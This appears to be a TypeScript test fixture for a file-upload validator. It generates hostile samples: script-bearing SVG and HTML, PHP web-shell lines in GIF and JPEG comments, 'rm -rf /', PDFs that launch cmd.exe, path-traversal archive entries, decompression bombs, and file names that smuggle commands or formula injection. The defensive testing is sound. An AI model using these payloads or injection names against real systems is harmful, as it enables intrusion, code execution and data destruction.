import { randomBytes } from "node:crypto";
import { deflateSync, gzipSync } from "node:zlib";
import type { FileRefusal, MediaType } from "../src/documents/contract.ts";
import { chunk, docx, odt, pdf, photo, picture, pngOf, zip } from "./files.ts";

/** A file that means no good, and what the house says: why not, or as what it is kept, harmless. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly content: Buffer;
  readonly claims?: string;
  readonly refused?: FileRefusal;
  readonly keptAs?: MediaType;
}

const text = (words: string) => Buffer.from(words);
const bytes = (words: string) => Buffer.from(words, "latin1");
const part = (name: string, words = "x") => ({ name, content: text(words) });
const script = "<script>window.__hit=1</script>";
const not = "type-not-allowed";

/** Programs, pages, archives and pictures of other kinds: by their content, whatever they are called. */
function otherKinds(): HostileFile[] {
  const contents: [string, Buffer][] = [
    ["SVG with script", text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
    ["SVG behind a declaration", text(`<?xml version="1.0"?><svg onload="x()"/>`)],
    ["SVG behind spaces", text(`\n\n   <svg onload=x()>`)],
    ["SVG behind a mark", text(`\ufeff<svg onload=x()>`)],
    ["page", text(`<!DOCTYPE html><html>${script}</html>`)],
    ["page without a head", text(`hello <SCRIPT>x()</SCRIPT>`)],
    ["page in capitals", text(`<HTML><BODY onload=x()>`)],
    ["frame", text(`text and <iframe src=//evil.example>`)],
    ["address that acts", text("open javascript:alert(1) please")],
    ["stylesheet with XML", text(`<?xml-stylesheet href="//evil.example"?><a/>`)],
    ["PHP", text("GIF89a; <?php system($_GET[1]); ?>")],
    [
      "GIF",
      bytes(
        "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
      ),
    ],
    ["GIF that is a script", bytes("GIF89a/*\x00*/=1;window.__hit=1//;")],
    ["BMP that is a script", bytes("BM/*\x00\x00*/=1;window.__hit=1//")],
    ["icon", bytes(`\x00\x00\x01\x00\x01\x00\x10\x10${"\x00".repeat(40)}`)],
    ["TIFF", bytes(`II*\x00\x08\x00\x00\x00${"\x00".repeat(60)}`)],
    [
      "TIFF of many pixels",
      bytes(
        `MM\x00*\x00\x00\x00\x08\x00\x02\x01\x00\x00\x04\x00\x00\x00\x01\xff\xff\xff\xff\x01\x01\x00\x04\x00\x00\x00\x01\xff\xff\xff\xff\x00\x00\x00\x00`,
      ),
    ],
    ["HEIC", bytes(`\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic${"\x00".repeat(40)}`)],
    ["AVIF", bytes(`\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif${"\x00".repeat(40)}`)],
    ["program of Windows", bytes(`MZ\x90\x00\x03\x00\x00\x00${"\x00".repeat(200)}`)],
    ["program of Linux", bytes(`\x7fELF\x02\x01\x01${"\x00".repeat(60)}`)],
    ["program of a Mac", bytes(`\xcf\xfa\xed\xfe\x07\x00\x00\x01${"\x00".repeat(60)}`)],
    ["class of Java", bytes(`\xca\xfe\xba\xbe\x00\x00\x004${"\x00".repeat(60)}`)],
    ["WebAssembly", bytes(`\x00asm\x01\x00\x00\x00`)],
    ["script of a shell", text("#!/bin/sh\nrm -rf /\n")],
    ["script of Windows", text("@echo off\r\ndel *.*")],
    ["entry of a registry", text("Windows Registry Editor Version 5.00\r\n")],
    ["link of Windows", text("[InternetShortcut]\nURL=file://evil.example/x")],
    ["link of a desktop", text("[Desktop Entry]\nExec=sh")],
    ["rich text", text("{\\rtf1{\\object\\objocx}}")],
    ["PostScript", text("%!PS-Adobe-3.0\n(%pipe%id) (r) file")],
    ["saved mail", text("MIME-Version: 1.0\nContent-Type: text/html\n\nx")],
    ["old Word with macros", bytes(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\x00".repeat(600)}`)],
    ["archive", zip([part("a.txt")])],
    ["empty archive", zip([])],
    ["archive of archives", zip([{ name: "b.zip", content: zip([part("a.txt")]) }])],
    ["program of Java", zip([part("META-INF/MANIFEST.MF"), part("A.class")])],
    ["app of a phone", zip([part("AndroidManifest.xml"), part("classes.dex")])],
    ["gzip", gzipSync("x".repeat(1000))],
    ["gzip that unpacks without end", gzipSync(Buffer.alloc(20_000_000))],
    ["RAR", bytes("Rar!\x1a\x07\x01\x00")],
    ["7z", bytes("7z\xbc\xaf\x27\x1c\x00\x04")],
    ["bzip2", bytes("BZh91AY&SY")],
    ["xz", bytes("\xfd7zXZ\x00")],
    ["cabinet", bytes(`MSCF\x00\x00\x00\x00${"\x00".repeat(40)}`)],
    ["font", bytes(`wOFF\x00\x01\x00\x00${"\x00".repeat(40)}`)],
    ["Flash", bytes("FWS\x0a\x00\x00\x00\x00")],
    ["film", bytes(`\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom${"\x00".repeat(20)}`)],
    ["sound", bytes(`ID3\x04\x00\x00\x00\x00\x00\x00${"\x00".repeat(40)}`)],
    ["database", bytes(`SQLite format 3\x00${"\x00".repeat(100)}`)],
    ["chance", randomBytes(5000)],
    ["zeros", Buffer.alloc(5000)],
    ["text with a NUL", text("hello\0world")],
    ["text with an escape", text("\u001b]0;x\u0007")],
    ["broken UTF-8", bytes("caf\xe9 \xff\xfe")],
    ["overlong UTF-8", bytes("\xc0\xaf\xe0\x80\xaf")],
    ["UTF-16", Buffer.from("\ufeffhello", "utf16le")],
  ];
  // Each under its own flag and under that of something honest.
  return contents.flatMap(([what, content], place) =>
    (place % 2 === 0 ? ["photo.jpg"] : ["lettre.pdf", "note.txt"]).map((name) => ({
      ...({ what, name, content, refused: not } as const),
      claims: "image/jpeg",
    })),
  );
}

/** Pictures that are broken, too large, or two things at once. */
async function pictures(): Promise<HostileFile[]> {
  const jpeg = (await photo()).content;
  const png = await picture({ width: 64, height: 64 }).png().toBuffer();
  const webp = await picture({ width: 64, height: 64 }).webp().toBuffer();
  const wide = await picture({ width: 12_000, height: 8_000 })
    .png({ compressionLevel: 1 })
    .toBuffer();
  const wideJpeg = Buffer.from(jpeg);
  const frame = wideJpeg.indexOf(Buffer.from([0xff, 0xc0]));
  wideJpeg.writeUInt16BE(65_000, frame + 5);
  wideJpeg.writeUInt16BE(65_000, frame + 7);
  const comment = (words: string) => {
    const about = Buffer.alloc(4);
    about.writeUInt16BE(0xfffe, 0);
    about.writeUInt16BE(words.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), about, text(words), jpeg.subarray(2)]);
  };
  const packed = chunk(
    "zTXt",
    Buffer.concat([text("a\0\0"), deflateSync(Buffer.alloc(50_000_000))]),
  );
  const image = (what: string, content: Buffer, refused: FileRefusal): HostileFile => ({
    ...{ what, content, refused },
    name: "photo.jpg",
  });
  const kept = (what: string, content: Buffer, keptAs: MediaType): HostileFile => ({
    ...{ what, content, keptAs },
    name: "photo",
  });
  return [
    image("PNG of 2,500,000,000 pixels", pngOf(50_000, 50_000), "too-many-pixels"),
    image("PNG of as many as can be said", pngOf(2_147_483_647, 2_147_483_647), "unreadable"),
    image("PNG without pixels", pngOf(0, 0), "unreadable"),
    image("PNG, wide", pngOf(1_000_000, 100), "too-many-pixels"),
    image("PNG with too little in it", pngOf(4_000, 4_000), "unreadable"),
    image("honest PNG of 96,000,000 pixels", wide, "too-many-pixels"),
    image("JPEG of 4,225,000,000 pixels", wideJpeg, "too-many-pixels"),
    image("JPEG, half", jpeg.subarray(0, jpeg.length / 2), "unreadable"),
    image("JPEG, its beginning", jpeg.subarray(0, 20), "unreadable"),
    image("JPEG, three bytes", jpeg.subarray(0, 3), "unreadable"),
    image("PNG, half", png.subarray(0, png.length / 2), "unreadable"),
    image("PNG, its beginning", png.subarray(0, 8), "unreadable"),
    image("PNG without an end", png.subarray(0, -12), "unreadable"),
    image("WebP, half", webp.subarray(0, webp.length / 2), "unreadable"),
    image("WebP, its beginning", webp.subarray(0, 12), "unreadable"),
    image("PNG, then chance", Buffer.concat([png.subarray(0, 40), randomBytes(500)]), "unreadable"),
    image("JPEG and archive", Buffer.concat([jpeg, zip([part("a")])]), not),
    image("PNG and archive", Buffer.concat([png, zip([part("a")])]), not),
    image("WebP and archive", Buffer.concat([webp, zip([part("a")])]), not),
    image("JPEG and PDF", Buffer.concat([jpeg, pdf()]), not),
    image("JPEG and program", Buffer.concat([jpeg, bytes("MZ\x90\x00")]), not),
    image("JPEG and page", Buffer.concat([jpeg, text(script)]), not),
    image("PNG and page", Buffer.concat([png, text(`<html>${script}`)]), not),
    image("JPEG with a script as remark", comment(script), not),
    image("JPEG with a page as remark", comment("*/<!DOCTYPE html>/*"), not),
    image("JPEG with PHP as remark", comment("<?php eval($_POST[1]); ?>"), not),
    image("PNG with a script as text", pngOf(4, 4, chunk("tEXt", text(`a\0${script}`))), not),
    image("something before a JPEG", Buffer.concat([text("x"), jpeg]), not),
    image("something before a PNG", Buffer.concat([text("\n"), png]), not),
    kept(
      "PNG whose remark unpacks to 50 MB",
      Buffer.concat([png.subarray(0, 33), packed, png.subarray(33)]),
      "image/png",
    ),
    kept("JPEG with a remark that calls somewhere", comment("http://evil.example/x"), "image/jpeg"),
    kept("JPEG with a note behind it", Buffer.concat([jpeg, Buffer.alloc(500)]), "image/jpeg"),
  ];
}

/** Papers that act when somebody opens them, or hide what they are. */
function papers(): HostileFile[] {
  const word = (what: string, content: Buffer): HostileFile => ({
    ...{ what, content, name: "bail.docx", refused: not },
  });
  const kept = (what: string, content: Buffer): HostileFile => ({
    ...{ what, content, name: "lettre.pdf", keptAs: "application/pdf" },
  });
  const whole = docx();
  return [
    word("macros in Word", docx([part("word/vbaProject.bin")])),
    word("macros by their type", docx([], "ms-word.document.macroEnabled.main+xml")),
    word("a control in Word", docx([part("word/activeX/activeX1.xml")])),
    word("an object in Word", docx([part("word/embeddings/oleObject1.bin")])),
    word("a program in Word", docx([part("word/media/a.exe")])),
    word("a page in Word", docx([part("word/a.html")])),
    word(
      "a template from elsewhere",
      docx([
        part(
          "word/_rels/settings.xml.rels",
          `<Relationship Type="attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>`,
        ),
      ]),
    ),
    word("a path out of it", docx([part("../../etc/cron.d/x")])),
    word("a path of Windows out of it", docx([part("..\\..\\x.txt")])),
    word("a path from the root", docx([part("/etc/x")])),
    word("a drive", docx([part("C:\\x.txt")])),
    word("a name with a NUL", docx([part("a\0b")])),
    word("a part twice", docx([part("word/document.xml")])),
    word("a locked part", docx([{ ...part("word/a.xml"), locked: true }])),
    word(
      "a part that unpacks without end",
      docx([{ name: "word/a.xml", content: Buffer.alloc(30_000_000) }]),
    ),
    word(
      "parts that say they are huge",
      docx([{ ...part("word/a.xml"), claimsBytes: 4_000_000_000 }]),
    ),
    word(
      "an archive that says it is Word",
      zip([part("[Content_Types].xml", "x"), part("word/document.xml")]),
    ),
    word("Excel", docx([], "spreadsheetml.sheet.main+xml")),
    {
      ...word(
        "too many parts",
        docx(Array.from({ length: 2100 }, (_, n) => part(`word/${n}.xml`))),
      ),
      refused: "unreadable",
    },
    {
      ...word(
        "a list that leads nowhere",
        Buffer.concat([whole.subarray(0, -6), Buffer.alloc(6, 0xff)]),
      ),
      refused: "unreadable",
    },
    {
      ...word("something behind Word", Buffer.concat([whole, text(script)])),
      refused: "unreadable",
    },
    { ...word("Word, half", whole.subarray(0, whole.length / 2)), refused: "unreadable" },
    { ...word("macros in OpenDocument", odt([part("Basic/Standard/a.xml")])), name: "bail.odt" },
    { ...word("scripts in OpenDocument", odt([part("Scripts/python/a.py")])), name: "bail.odt" },
    { ...word("an object in OpenDocument", odt([part("Object 1/content.xml")])), name: "bail.odt" },
    { ...kept("PDF, half", pdf().subarray(0, 60)), refused: "unreadable", keptAs: undefined },
    {
      ...kept("PDF and archive", Buffer.concat([pdf(), zip([part("a")]), text("%%EOF")])),
      refused: not,
      keptAs: undefined,
    },
    { ...kept("PDF that is a page", pdf(`<html>${script}`)), refused: not, keptAs: undefined },
    {
      ...kept("something before a PDF", Buffer.concat([text("MZ"), pdf()])),
      refused: not,
      keptAs: undefined,
    },
    kept("PDF with JavaScript", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    kept("PDF that starts a program", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>")),
    kept("PDF that calls somewhere", pdf("/URI(http://evil.example)")),
  ] as HostileFile[];
}

/** Honest content under a name that lies, or a name that attacks whoever saves it. */
async function names(): Promise<HostileFile[]> {
  const { content } = await photo();
  const lying = [
    "photo.exe",
    "photo.jpg.exe",
    "photo.html",
    "photo.svg",
    "photo.pdf",
    "photo.docm",
    "photo.gif",
    "photo.txt",
    "photo.lnk",
    "photo\u202egpj.exe",
    "photo.ex\u200be",
    "photo.EXE",
    "photo.hta ",
  ];
  const attacking = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\x",
    "/etc/shadow",
    "C:\\boot.ini.jpg",
    "\\\\server\\share\\x.jpg",
    "a%00.jpg",
    "a\u0001b.jpg",
    "a\u202egpj.jpg",
    "a\u2066b\u2069.jpg",
    "CON.jpg",
    "nul",
    ".htaccess",
    "...",
    " ",
    "",
    "-rf.jpg",
    "$(id).jpg",
    "`id`.jpg",
    "a;rm -rf.jpg",
    "a' or 1=1.jpg",
    "<img src=x onerror=x()>.jpg",
    "x".repeat(5_000),
    `${"é".repeat(300)}.jpg`,
    "👩🏽‍⚕️".repeat(60),
    "=cmd|' /C calc'!A0.jpg",
    "صورة.jpg",
    "photo.jpg\tx",
  ];
  return [
    ...lying.map(
      (name) => ({ what: `a JPEG that is called so`, name, content, refused: not }) as const,
    ),
    ...attacking.map(
      (name) => ({ what: "a name that attacks", name, content, keptAs: "image/jpeg" }) as const,
    ),
  ];
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    { what: "nothing", name: "a.pdf", content: Buffer.alloc(0), refused: "empty" },
    { what: "only spaces", name: "a.txt", content: text(" \n\t\u200b"), refused: "empty" },
    ...otherKinds(),
    ...(await pictures()),
    ...papers(),
    ...(await names()),
  ];
}
